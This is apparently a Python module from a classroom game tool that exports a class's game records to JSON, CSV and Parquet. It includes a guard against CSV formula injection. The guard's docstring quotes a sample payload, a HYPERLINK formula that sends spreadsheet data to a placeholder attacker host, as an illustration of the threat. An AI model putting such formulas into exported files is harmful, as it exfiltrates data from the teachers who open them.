"""A class's games as records, read straight from its database; export to a folder, CSV, Parquet.

Each table of each round is one game record (docs/records.md), built from the
table's deal and its log of actions. Its ``"students"`` names who sat in each
seat (``"student 004"``, the same in every game that student played, so the
class results cluster by student; each bot seat its own name), and what the
class adds is under the extra key ``"live"`` (kept by every reader, ignored
by replay)::

    "live": {"room": "K7QF3M", "round": 3, "table": 2,
             "seats": [{"student": 4, "name": "Ada"}, {"bot": "honest"}],
             "actors": ["student", "bot", "standin", ...],   # who took each action
             "ended": "ended"}                                 # or "stopped", or null

``actors`` follows ``actions`` one for one: ``student`` (the student in
that seat), ``bot`` (a seat a bot fills), ``standin`` (a bot playing for an
absent or idle student), ``finish`` (a bot ending a round the teacher closed).

:func:`export_session` writes ``records/round-03-table-02.json`` for every
game, ``decisions.csv`` (one row per action) and, when pyarrow is installed,
``decisions.parquet``: what :func:`prohis_nb.classroom.load_class` reads.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from prohis_nb.core.record import Record
from prohis_nb.errors import SaveError
from prohis_nb.live.games import live_game
from prohis_nb.live.store import Store

#: The columns of ``decisions.csv`` and ``decisions.parquet``, one row per action.
DECISION_COLUMNS = (
    "room", "round", "table", "idx", "seat", "student", "name", "actor", "act", "action",
)  # fmt: skip


def session_row(store: Store, room: str | None = None) -> dict[str, Any]:
    """The session called ``room`` (default: the newest in the database)."""
    if room is not None:
        row = store.session_by_room(room)
        if row is None:
            raise LookupError(f"no class with room code {room!r} in this database")
        return row
    rows = store.session_rows()
    if not rows:
        raise LookupError("this database holds no class yet")
    return rows[-1]


def session_records(store: Store, room: str | None = None) -> list[Record]:
    """Every game of a class as a record, in round and table order."""
    session = session_row(store, room)
    game = live_game(session["game"])
    students = {s["id"]: s for s in store.student_rows(session["id"])}
    tables = store.table_rows(session["id"])
    logs = store.action_rows([t["id"] for t in tables])
    records = []
    for table in tables:
        lines = logs[table["id"]]
        seats = []
        who = []  # the record's "students": one name per seat (docs/records.md)
        for number, info in enumerate(table["seats"]):
            if "student" in info:
                student = students.get(info["student"], {})
                seats.append({"student": student.get("number"), "name": student.get("name")})
                who.append(f"student {student.get('number', 0) + 1:03d}")
            else:
                seats.append({"bot": info["bot"]})
                who.append(f"bot {info['bot']} (round {table['round']}, table "
                           f"{table['number']}, seat {number})")  # fmt: skip
        records.append(
            Record(
                format=game.cls.record_format,
                game=game.cls.game_name,
                rules=table["rules"],
                setup=table["setup"],
                actions=[{**line.action, "seat": line.seat} for line in lines],
                extra={
                    "students": who,
                    "live": {
                        "room": session["room"],
                        "round": table["round"],
                        "table": table["number"],
                        "seats": seats,
                        "actors": [line.actor for line in lines],
                        "ended": table["ended"],
                    },
                },
            )
        )
    return records


#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` for a CSV cell: text a spreadsheet would run as a formula gets a ``'`` first.

    A display name such as ``=HYPERLINK("http://evil.example/?"&A1)`` would
    otherwise be a live formula in the teacher's spreadsheet. Numbers are
    left as they are; the Parquet file and the records keep the text exactly.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def decision_rows(records: list[Record]) -> list[dict[str, Any]]:
    """One row per action of every record (:data:`DECISION_COLUMNS`)."""
    rows = []
    for record in records:
        live = record.extra.get("live", {})
        for idx, action in enumerate(record.actions):
            seat = action.get("seat")
            info = live.get("seats", [{}] * (seat + 1))[seat] if isinstance(seat, int) else {}
            rows.append(
                {
                    "room": live.get("room"),
                    "round": live.get("round"),
                    "table": live.get("table"),
                    "idx": idx,
                    "seat": seat,
                    "student": info.get("student"),
                    "name": info.get("name"),
                    "actor": (live.get("actors") or [None] * (idx + 1))[idx],
                    "act": action.get("act"),
                    "action": json.dumps(action, sort_keys=True),
                }
            )
    return rows


def export_session(
    store: Store, folder: str | Path, room: str | None = None, *, overwrite: bool = False
) -> Path:
    """Write a class's records, ``decisions.csv`` and ``decisions.parquet`` into ``folder``.

    A folder that holds files already is refused unless ``overwrite`` (then
    only the files written here are replaced). Parquet is written when pyarrow
    is installed (the ``scale`` extra), else left out.
    """
    return write_records(session_records(store, room), folder, overwrite=overwrite)


def write_records(records: list[Record], folder: str | Path, *, overwrite: bool = False) -> Path:
    """Write ``records`` (of a class) as :func:`export_session` does."""
    folder = Path(folder)
    if folder.exists() and any(folder.iterdir()) and not overwrite:
        raise SaveError(
            f"the folder {str(folder)!r} is not empty: choose a new folder, or pass overwrite=True"
        )
    (folder / "records").mkdir(parents=True, exist_ok=True)
    for record in records:
        live = record.extra["live"]
        name = f"round-{live['round']:02d}-table-{live['table']:02d}.json"
        record.save(folder / "records" / name)
    rows = decision_rows(records)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=DECISION_COLUMNS)
    writer.writeheader()
    writer.writerows({k: spreadsheet_safe(v) for k, v in row.items()} for row in rows)
    (folder / "decisions.csv").write_text(buffer.getvalue(), encoding="utf-8", newline="")
    try:
        import pyarrow as pa
        import pyarrow.parquet as pq
    except ImportError:
        return folder
    table = pa.Table.from_pylist(rows) if rows else pa.table({c: [] for c in DECISION_COLUMNS})
    pq.write_table(table, folder / "decisions.parquet")
    return folder
